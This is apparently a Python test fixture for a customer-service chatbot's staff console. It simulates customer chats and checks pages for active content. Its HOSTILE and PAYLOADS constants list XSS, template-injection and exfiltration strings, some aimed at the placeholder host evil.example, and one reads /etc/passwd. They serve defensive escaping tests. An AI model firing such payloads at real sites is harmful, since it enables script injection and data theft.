"""A service desk in the middle of its day: the whole bot, customers who wrote, staff who may sign in."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import httpx

from bot import passwords
from context.console.accounts import Role, Staff
from context.console.listing import Listing
from context.turns import Chat
from tests.ac_panel import as_jpeg, draw_panel, draw_plate
from tests.model_server import ModelServer, Received
from tests.until import until
from tests.web_world import browse
from tests.world import World, world

PASSWORD = "correct horse battery"
HOSTILE = (
    "<script>document.title='broken'</script><img src=x onerror=\"document.title='broken'\">"
    "![x](http://evil.example/pixel.png) {{7*7}} \u202eevil\u202c\x07 \u200b'\"><svg onload=alert(1)>"
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](http://evil.example/pixel.png?d=secret)",
    "<http://evil.example>",
    "<img src=http://evil.example/p.gif>",
    "<style>*{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<math><mtext><img src=x onerror=alert(1)></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div style='position:fixed;inset:0'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<div hx-get=/staff/logout hx-trigger=load>",
    "{{7*7}}${7*7}<%=7*7%>",
    "{% include '/etc/passwd' %}",
    "\"'><b onmouseover=alert(1)>",
    "&#60;script&#62;alert(1)",
)
"""HTML, Markdown and template syntax that does something where it is not escaped."""
CHAT, BLOCKED, WAITING, EVIL = (Chat("telegram", number) for number in ("101", "102", "103", "104"))

ANSWERS = {
    "E4 display": (
        "On photo 1 the display shows E4: the indoor unit's temperature sensor is not heard any more.\n\n"
        "1. Switch the unit off at the breaker and wait five minutes.\n"
        "2. Switch it on again. If E4 comes back, please send the rating plate (photo 2 is too dark to read)."
    ),
    "money": "You will get a full refund of 300 yuan within 3 days, I promise.",
    "红灯": "照片1上红灯常亮：滤网堵塞或者过热。请先断电，清洗滤网后再试。",
    # What the photo of the plate does not show: nobody may believe it.
    "which its serial number": '{"brand": "Midea", "model": "KFR-35GW", "serial": "8K2207M1194"}',
    "say it again": "\n".join(PAYLOADS),
    "rating plate": "Thank you, the plate says KFR-35GW. Please hold POWER for 5 s.",
}


def answer(request: Received) -> str:
    """What the model says: as written for a question that holds a word."""
    asked = request.last_text
    for word, said in ANSWERS.items():
        if word in asked:
            return said
    return "Could you send a photo of the display?"


class _Active(HTMLParser):
    """Finds whatever in a page could do something that the page's own files do not do."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        own = ("/staff", "/static", "#")
        if tag in ("style", "iframe", "object", "embed", "base") or (
            tag == "script" and not given.get("src")
        ):
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in given if name.startswith("on") or name == "style"]
        self.found += [
            f"{tag} {name}={given[name]}"
            for name in ("src", "href", "action")
            if name in given and not (given[name] or "").startswith(own)
        ]


def active(html: str) -> list[str]:
    """Inline scripts and styles, handlers, and addresses outside the console: none of them is ours."""
    parser = _Active()
    parser.feed(html)
    return parser.found


@dataclass(slots=True)
class Desk:
    """The bot with its console."""

    world: World
    url: str
    staff: Staff

    async def account(self, name: str, role: Role) -> None:
        await self.staff.add(name, role, await asyncio.to_thread(passwords.hashed, PASSWORD))

    @asynccontextmanager
    async def signed_in(self, name: str) -> AsyncIterator[Colleague]:
        """Somebody at the console, without a browser."""
        async with browse(self.url, sec_fetch_site="same-origin") as client:
            form = {"name": name, "password": PASSWORD}
            assert (await client.post("/staff/login", data=form)).status_code == 303
            page = await client.get("/staff")
            found = re.search(r'<meta name="csrf" content="(\w+)">', page.text)
            assert found
            yield Colleague(client, found[1])

    async def until_listed(self, chat: Chat, is_so: Callable[..., bool] = bool) -> None:
        """Wait until the list shows this chat as it should be."""
        listing = Listing(self.world.app.stores.db)

        async def is_listed() -> bool:
            line = await listing.line(chat)
            return line is not None and is_so(line)

        await until(is_listed)


@dataclass(frozen=True, slots=True)
class Colleague:
    client: httpx.AsyncClient
    csrf: str

    async def post(self, path: str, **fields: str) -> httpx.Response:
        headers = {"X-CSRF-Token": self.csrf, "HX-Request": "true"}
        return await self.client.post(path, data=fields or {"x": ""}, headers=headers)


@asynccontextmanager
async def open_desk(folder: Path) -> AsyncIterator[Desk]:
    """The bot after a morning's work; `mei` is an agent, `ana` an admin, `vic` a viewer."""
    async with world(folder, model=ModelServer(answer=answer, models=("stub-model", "other-model"))) as w:
        desk = Desk(w, w.app.url, Staff(w.app.stores.db))
        await asyncio.gather(
            desk.account("mei", "agent"), desk.account("ana", "admin"), desk.account("vic", "viewer")
        )
        await _morning(w)
        for chat in (CHAT, BLOCKED, WAITING, EVIL):
            await desk.until_listed(chat, lambda line: line.who == "bot")
        yield desk


async def _morning(w: World) -> None:
    panel, plate = as_jpeg(draw_panel("E4")), as_jpeg(draw_plate())
    lin = w.telegram.customer(101, name="Lin Wei")
    await lin.sends_album(
        [panel, plate], caption="Our bedroom AC stopped cooling, E4 display. What can I do?"
    )
    await w.telegram.replies(101)
    lin.says("Here is the rating plate again, it still shows it")
    await w.telegram.replies(101)
    ben = w.telegram.customer(102, name="Ben")
    ben.says("My heater is broken, I want my money back!")
    await w.telegram.replies(102)
    fang = w.telegram.customer(103, name="方女士", language="zh")
    fang.sends_photo(panel, caption="红灯一直亮，怎么办？")
    await w.telegram.replies(103)
    fang.says("/human")
    await w.telegram.replies(103)
    evil = w.telegram.customer(104, name=HOSTILE[:60])
    evil.says(HOSTILE)
    await w.telegram.replies(104)
